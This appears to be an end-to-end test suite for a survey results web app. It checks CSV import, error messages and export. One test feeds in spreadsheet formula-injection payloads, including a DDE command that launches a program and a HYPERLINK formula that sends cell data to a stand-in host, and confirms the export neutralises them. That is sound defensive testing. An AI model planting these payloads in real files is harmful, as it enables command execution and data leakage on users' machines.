import { readFileSync } from 'node:fs';

import { parse } from 'csv-parse/sync';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { pageFaults } from '../support/axe-page.js';
import { builtSite, launchBrowser, type WatchedPage, watchedPage } from '../support/site.js';
import { type StaticServer, serveFolder } from '../support/static-server.js';
import { seen, settings, unitRows } from './results-support.js';

let browser: Browser;
let server: StaticServer;
let watched: WatchedPage;
let page: Page;

beforeAll(async () => {
  browser = await launchBrowser();
  const { collector: _, ...local } = settings;
  server = await serveFolder(builtSite, { files: { 'samklang.config.json': JSON.stringify(local) } });
}, 120_000);

afterAll(async () => {
  await browser.close();
  await server.close();
});

beforeEach(async () => {
  watched = await watchedPage(browser, server.url, { viewport: { width: 1280, height: 900 } });
  page = watched.page;
  await page.goto(`${server.url}results/#files`);
  await page.getByText('What this device holds').waitFor();
});

afterEach(async () => {
  expect(watched.violations).toEqual([]);
  expect(watched.errors).toEqual([]);
  await page.context().close();
});

interface Given {
  readonly name: string;
  readonly content: string | Buffer;
}

async function choose(...files: readonly Given[]): Promise<void> {
  await page
    .locator('input[type=file]')
    .setInputFiles(files.map(({ name, content }) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(content) })));
}

const report = () => page.locator('.files-report');

/** Opens a table and waits until it is told. */
async function told(name: string, content: string | Buffer): Promise<string> {
  await choose({ name, content });
  await report().getByText(name).first().waitFor();
  await report().getByRole('button', { name: 'Close the files' }).waitFor();
  return seen(report());
}

const twelve = (row: (index: number) => string) => Array.from({ length: 12 }, (_, index) => row(index));

describe('tables as other programs write them', () => {
  it('with a byte order mark, semicolons and decimal commas', async () => {
    const rows = twelve((index) => `r${index};haga;31.03.2026;${index % 2 ? '9,0' : '7'};4,0`);
    const text = await told('export.csv', `\uFEFFid;unit;date;nps;sat\r\n${rows.join('\r\n')}\r\n`);
    expect(text).toContain('export.csv: 12 answers.');
    expect(text).not.toContain('not counted');
    await page.getByRole('link', { name: 'Overview', exact: true }).click();
    expect(await seen(page.locator('.figure .value').first())).toBe('50');
  });

  it('with the hint that Excel puts before the header', async () => {
    expect(await told('excel.csv', `sep=;\r\nunit;nps\r\n${twelve(() => 'a;9').join('\r\n')}`)).toContain(
      '12 answers.',
    );
  });

  it('in Windows-1252, which is told', async () => {
    const rows = twelve(() => 'Göteborg,2026-03,9').join('\n');
    const text = await told('old.csv', Buffer.from(`unit,period,nps\n${rows}`, 'latin1'));
    expect(text).toContain('Read as Windows-1252, because it is not UTF-8: old.csv.');
    await page.getByRole('link', { name: 'Units', exact: true }).click();
    await page.locator('.unit-table').waitFor();
    expect([...(await unitRows(page)).keys()]).toEqual(['Göteborg']);
  });

  it('in Windows-1252 beyond the first megabyte, each answer counted once', async () => {
    const row = (index: number) => `r${index},${index === 59_999 ? 'Malmö' : 'Lund branch of the chain'},2026-03,9`;
    const rows = Array.from({ length: 60_000 }, (_, index) => row(index)).join('\n');
    const text = await told('long.csv', Buffer.from(`id,unit,period,nps\n${rows}`, 'latin1'));
    expect(text).toContain('long.csv: 60,000 answers.');
    expect(text).toContain('Windows-1252');
    expect(text).not.toContain('twice');
  });

  it('in UTF-16', async () => {
    const rows = twelve(() => 'a\t9').join('\r\n');
    const content = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`unit\tnps\r\n${rows}`, 'utf16le')]);
    expect(await told('unicode.txt', content)).toContain('12 answers.');
  });

  it('with dates in three styles', async () => {
    const table = (date: string) => `unit,date,nps\n${twelve(() => `a,${date},9`).join('\n')}`;
    const styles = ['2026-03-31', '31.3.2026', '3/31/2026', '31/03/2026'];
    await choose(...styles.map((date, index) => ({ name: `style-${index}.csv`, content: table(date) })));
    await report().getByText('style-3.csv: 48 answers.').waitFor();
    await page.getByLabel('Period').locator('option[value="2026-03"]').waitFor({ state: 'attached' });
    expect(await page.getByLabel('Period').locator('optgroup[label=Months] option').count()).toBe(1);
  });

  it('with dates whose order nothing tells: it is said how they were read, and can be changed', async () => {
    const text = await told('us.csv', `unit,date,nps\n${twelve(() => 'a,03/04/2026,9').join('\n')}`);
    expect(text).toContain('us.csv: a date such as 03/04/2026 was read as 3 April.');
    await page.getByRole('button', { name: 'Columns of us.csv' }).click();
    await page.getByLabel('Dates such as 03/04/2026').selectOption({ label: 'March 4 (month first)' });
    await page.getByRole('button', { name: 'Read the file' }).click();
    await report().getByText('was read as March 4').waitFor();
    await page.getByLabel('Period').locator('option[value="2026-03"]').waitFor({ state: 'attached' });
  });

  it('with ragged rows: each is named by its number, none shifts into the next', async () => {
    const rows = [...twelve(() => 'a,9,5'), 'a,9', 'a,9,5,7', 'a,9,5,,'];
    const text = await told('ragged.csv', `unit,nps,sat\n${rows.join('\n')}`);
    expect(text).toContain('ragged.csv: 13 answers.');
    expect(text).toContain('2 rows were left out.');
    expect(text).toContain('Row 14 2 columns instead of 3');
    expect(text).toContain('Row 15 4 columns instead of 3');
  });

  it('with the same header twice: the first is read, and it is said', async () => {
    const text = await told('twice.csv', `unit,nps,nps\n${twelve(() => 'a,9,0').join('\n')}`);
    expect(text).toContain('Stands more than once, only the first is read: nps.');
    await page.getByRole('link', { name: 'Overview', exact: true }).click();
    expect(await seen(page.locator('.figure .value').first())).toBe('100');
  });

  it('with columns of both sides in rows that name no survey: those of the other side are named as unused', async () => {
    const text = await told('both.csv', `unit,nps,enps,e1,e2\n${twelve(() => 'a,9,0,4,4').join('\n')}`);
    expect(text).toContain('Columns not used: nps');
    await page.getByRole('link', { name: 'Overview', exact: true }).click();
    expect(await seen(page.locator('.figure .value').first())).toBe('−100');
  });

  it('with headers that every object has', async () => {
    await choose({ name: 'odd.csv', content: `unit,constructor,valueOf\n${twelve(() => 'a,5,9').join('\n')}` });
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('constructor').selectOption('trust');
    await dialog.getByLabel('valueOf').selectOption('enps');
    await dialog.getByRole('button', { name: 'Read the file' }).click();
    await report().getByText('odd.csv: 12 answers.').waitFor();
    await page.getByRole('link', { name: 'Overview', exact: true }).click();
    expect(await seen(page.locator('.trust-rows'))).toMatch(/constructor/i);
    expect(await seen(page.locator('.figures'))).toMatch(/eNPS\s+100/);
  });

  it('with ten thousand columns', async () => {
    const headers = ['unit', 'nps', ...Array.from({ length: 9_998 }, (_, index) => `x${index}`)].join(',');
    const row = `a,9,${','.repeat(9_997)}`;
    const text = await told('wide.csv', `${headers}\n${twelve(() => row).join('\n')}`);
    expect(text).toContain('wide.csv: 12 answers.');
    expect(text).toContain('x11 and 9,986 more.');
    await page.getByRole('button', { name: 'Columns of wide.csv' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByText('9,940 more columns are not listed.').waitFor();
    await dialog.getByLabel('Find a column').fill('x9997');
    await dialog.getByLabel('x9997').selectOption('sat');
    await dialog.getByLabel('x9997').press('Escape');
    await dialog.waitFor({ state: 'hidden' });
  });

  it('with a quotation mark that nobody closes', async () => {
    expect(await told('quote.csv', `unit,nps,comment\n${twelve(() => 'a,9,fine').join('\n')}\na,9,"oh`)).toContain(
      'Row 14 A quotation mark is opened here and never closed.',
    );
  });
});

describe('answers that cannot tell much', () => {
  it('units that differ only by capitals or spaces are counted apart until the owner joins them', async () => {
    const rows = [...twelve(() => 'haga,9'), ...twelve(() => 'Haga ,0'), ...twelve(() => 'north,9')];
    const text = await told('spelt.csv', `unit,nps\n${rows.join('\n')}`);
    expect(text).toContain('Counted apart, although only capitals or spaces differ: “haga” = “Haga ”.');
    await page.getByRole('link', { name: 'Units', exact: true }).click();
    await page.locator('.unit-table').waitFor();
    expect((await unitRows(page)).size).toBe(3);
    await page.getByRole('button', { name: 'Count them together' }).click();
    await page.waitForFunction(() => document.querySelectorAll('.unit-table tbody tr').length === 2);
    const [score, , answers] = (await unitRows(page)).get('Göteborg Haga') ?? [];
    expect([score, answers]).toEqual(['0', '24']);
  });

  it('a table of units is joined by the same names, and several say together what a unit is', async () => {
    const rows = twelve((index) => `Torg,${index % 11},${4 + (index % 2)},4,4,3,5,4,4,3`);
    await choose(
      { name: 'answers.csv', content: `unit,nps,b1,b2,b3,b4,b5,b6,b7,b8\n${rows.join('\n')}` },
      { name: 'growth.csv', content: 'unit,growth\ntorg ,3.5' },
      { name: 'names.csv', content: 'unit,name\nTORG,The shop on the square' },
    );
    await page.getByRole('button', { name: 'Count them together' }).click();
    await report().getByText('Counted apart').waitFor({ state: 'detached' });
    await page.getByRole('link', { name: 'Units', exact: true }).click();
    await page.locator('.unit-table').waitFor();
    expect([...(await unitRows(page)).keys()]).toEqual(['The shop on the square']);
  });

  it('answers without ids count in each file they are in, and it is said', async () => {
    const table = (id: string) => `${id}unit,nps\n${twelve((index) => `${id && `r${index},`}a,9`).join('\n')}`;
    await choose({ name: 'one.csv', content: table('') }, { name: 'two.csv', content: table('') });
    const said = 'one.csv and two.csv: without an id for each answer, one that is in two files counts twice.';
    expect(await seen(report().getByText(said))).toContain('one.csv and two.csv: 24 answers.');
    await page.getByRole('button', { name: 'Close the files' }).click();
    await report().waitFor({ state: 'detached' });
    await choose({ name: 'three.csv', content: table('id,') }, { name: 'four.csv', content: table('id,') });
    await report().getByText('12 answers were there twice and counted once.').waitFor();
    expect(await seen(report())).not.toContain('without an id');
  });

  it('no unit has the name of all of them', async () => {
    const text = await told('star.csv', `unit,nps\n${twelve((index) => (index < 2 ? '*,0' : 'a,9')).join('\n')}`);
    expect(text).toContain('star.csv: 10 answers. 2 rows were left out.');
    expect(text).toContain('Row 3 No unit can be called “*”, which stands for all of them; the row is left out.');
  });

  it('periods without answers in between are named', async () => {
    const rows = ['2026-01', '2026-04'].flatMap((period) => twelve(() => `a,${period},9`));
    expect(await told('gap.csv', `unit,period,nps\n${rows.join('\n')}`)).toContain(
      'No answers in between: Feb 26 and Mar 26.',
    );
  });

  it('without a date no pay is reckoned, and of longer periods those that lie in the twelve months', async () => {
    const scored = (unit: string, date: string, nps: number) => twelve(() => `${unit},${date},${nps}`);
    await told('undated.csv', `unit,nps\n${[...twelve(() => 'a,9'), ...twelve(() => 'b,3')].join('\n')}`);
    await page.getByRole('link', { name: 'Pay', exact: true }).click();
    await page.getByRole('heading', { name: 'Pay needs customers’ answers with a date' }).waitFor();
    await page.getByRole('button', { name: 'Close the files' }).click();
    const rows = [...scored('a', '2025', 0), ...scored('a', '2026-06', 9), ...scored('b', '2026-05', 9)];
    await choose({ name: 'dated.csv', content: `unit,date,nps\n${rows.join('\n')}` });
    await page.locator('.pay-table').waitFor();
    expect(await seen(page.locator('.lead'))).toContain('Twelve rolling months: Jul 25 to Jun 26.');
    expect(await page.locator('.pay-table tbody td:nth-child(2)').allTextContents()).toEqual(['12', '12']);
  });

  it('one unit, all of one mind', async () => {
    await told('one.csv', `unit,period,nps,sat\n${twelve(() => 'a,2026-01,8,4').join('\n')}`);
    await page.getByRole('link', { name: 'Units', exact: true }).click();
    await page.getByText('One unit only, so there is nothing to compare it with.').waitFor();
    await page.getByRole('link', { name: 'Overview', exact: true }).click();
    expect(await seen(page.locator('.figures'))).not.toMatch(/NaN|Infinity|undefined/);
  });

  it('questions that everybody answers alike', async () => {
    const rows = Array.from({ length: 60 }, (_, index) => `u${index % 2},9,4,4,4,4,4,4,4,4`);
    await told('alike.csv', `unit,nps,b1,b2,b3,b4,b5,b6,b7,b8\n${rows.join('\n')}`);
    await page.getByRole('link', { name: 'Overview', exact: true }).click();
    expect(await seen(page.locator('.reliability'))).toContain('60 complete answers, and all of them alike.');
  });

  it('every score missing', async () => {
    expect(await told('empty-scores.csv', `unit,nps\n${twelve(() => 'a,NA').join('\n')}`)).toContain(
      'Customers: every score is missing, so there is nothing to show.',
    );
    await page.getByRole('link', { name: 'Overview', exact: true }).click();
    await page.getByRole('heading', { name: 'Nobody has said whether they would recommend us.' }).waitFor();
  });

  it('words of employees are shown from eight of their unit, in one period', async () => {
    const row = (unit: string, index: number) => `${unit},2026-Q1,9,${unit} says ${index}`;
    const times = (n: number, unit: string) => Array.from({ length: n }, (_, index) => row(unit, index));
    await told('pulse.csv', ['unit,period,enps,comment', ...times(8, 'shop'), ...times(7, 'bakery')].join('\n'));
    await page.getByRole('link', { name: 'Answers', exact: true }).click();
    await page.getByText('shop says 1').waitFor();
    expect(await page.getByText('bakery says').count()).toBe(0);
  });
});

describe('a table whose columns nobody knows', () => {
  const foreign = `Filiale,Wann,Wie wahrscheinlich?\n${twelve(() => 'Nord,2026-05-02,9').join('\n')}`;

  it('is asked about, answered by keyboard, and remembered on the device', async () => {
    await choose({ name: 'german.csv', content: foreign });
    const dialog = page.getByRole('dialog', { name: 'What do the columns of german.csv mean?' });
    await dialog.waitFor();
    expect(await seen(dialog)).toContain('2026-05-02');
    expect(await dialog.getByRole('button', { name: 'Read the file' }).isDisabled()).toBe(true);
    await dialog.getByLabel('Filiale').focus();
    await page.keyboard.press('ArrowDown');
    await dialog.getByLabel('Filiale').selectOption('unit');
    await dialog.getByLabel('Wann').selectOption('period');
    await dialog.getByLabel('Wie wahrscheinlich?').selectOption('nps');
    await dialog.getByRole('button', { name: 'Read the file' }).focus();
    await page.keyboard.press('Enter');
    await report().getByText('german.csv: 12 answers.').waitFor();
    await page.reload();
    await choose({ name: 'again.csv', content: foreign });
    await report().getByText('again.csv: 12 answers.').waitFor();
  });

  it('has no fault that axe can find, and fits a phone', async () => {
    await page.context().close();
    watched = await watchedPage(browser, server.url, { viewport: { width: 320, height: 640 }, bypassCSP: true });
    page = watched.page;
    await page.goto(`${server.url}results/`);
    await choose({ name: 'german.csv', content: foreign });
    await page.getByRole('dialog').waitFor();
    expect(await pageFaults(page)).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  });

  it('may be left: then it is said that nothing was read', async () => {
    await choose({ name: 'colours.csv', content: 'shade,colour\nBo,red' });
    await page.getByRole('button', { name: 'Leave it' }).click();
    await report().getByText('No column with scores was found.').waitFor();
    await report().getByText('Nothing was read from colours.csv.').waitFor();
  });

  it('of units is read as what it is', async () => {
    const table = 'location_id,region,fte,growth_pct\nL1,R1,"9,5",4.2\n,R1,3,1\nL2,R2,x,\nL1,R1,8,1.1';
    expect(await told('shops.csv', table)).toContain('shops.csv describes 2 units. 2 rows were left out.');
    expect(await seen(report())).toContain('Row 3 No unit is named; the row is left out.');
    expect(await seen(report())).toContain('Row 4 “x” is no number and is left out.');
    expect(await seen(report())).toContain('Row 5 “L1” is described further up; this row is left out.');
  });
});

describe('a table taken along', () => {
  it('runs no formula, wherever it was hidden, and keeps negative numbers', async () => {
    const hostile = [
      ...[
        '=1+2";=1+2',
        "=cmd|' /C calc'!A0",
        '+1+1',
        '-2+3',
        '@SUM(1)',
        '\t=1',
        '\r=1',
        '\n=1',
        'a,"=1',
        ';=1',
        '＝1+1',
      ],
      ...['=HYPERLINK("http://x?"&A1)', '"=1', " '=1", '\u200b=1'],
    ];
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const rows = hostile.flatMap((unit) => twelve(() => `${quoted(unit)},0`));
    await told('hostile.csv', `unit,nps\n${rows.join('\n')}`);
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'CSV', exact: true }).click();
    const text = readFileSync(await (await downloading).path(), 'utf8');
    const cells = (parse(text, { bom: true }) as string[][]).flat();
    const asNumbers = cells.filter((cell) => /^-?\d/.test(cell)).map(Number);
    expect(asNumbers).toContain(-100);
    const risky = cells.filter(
      (cell) => Number.isNaN(Number(cell)) && /^[\s\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell),
    );
    expect(risky).toEqual([]);
    for (const unit of ['+1+1', '@SUM(1)', '＝1+1']) expect(cells).toContain(`'${unit}`);
  });
});

describe('a chart taken along', () => {
  it.each(['PNG', 'SVG'])('is drawn as %s whatever characters a unit is named with', async (kind) => {
    const rows = ['low\u0001\uffff', 'high', 'other'].flatMap((unit, place) =>
      twelve(() => `${unit},${[0, 9, 7][place]}`),
    );
    await told('odd.csv', `unit,nps\n${rows.join('\n')}`);
    await page.getByRole('link', { name: 'Units', exact: true }).click();
    const chart = page.locator('.savable', { has: page.locator('.caterpillar') });
    await chart.locator('summary').click();
    const downloading = page.waitForEvent('download');
    await chart.getByRole('button', { name: kind, exact: false }).click();
    const content = readFileSync(await (await downloading).path());
    expect(content.length).toBeGreaterThan(1_000);
    expect(content.includes('low\u0001')).toBe(false);
  });
});

describe('a large file', () => {
  it('shows how far it is read and can be cancelled, and nothing of it stays', async () => {
    await page.evaluate(() => {
      const row = 'r,haga,2026-03,9,5,a rather long comment that takes some time to read through to its end\n';
      const parts = Array.from({ length: 60 }, () => row.repeat(20_000));
      const transfer = new DataTransfer();
      transfer.items.add(new File(['no,unit,period,nps,sat,comment\n', ...parts], 'huge.csv'));
      document.querySelector('main')?.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true }));
    });
    await page.waitForFunction(() => Number(document.querySelector('progress')?.value) > 0.02);
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.locator('progress').waitFor({ state: 'detached' });
    expect(await report().count()).toBe(0);
    await page.getByText('What this device holds').waitFor();
  });
});
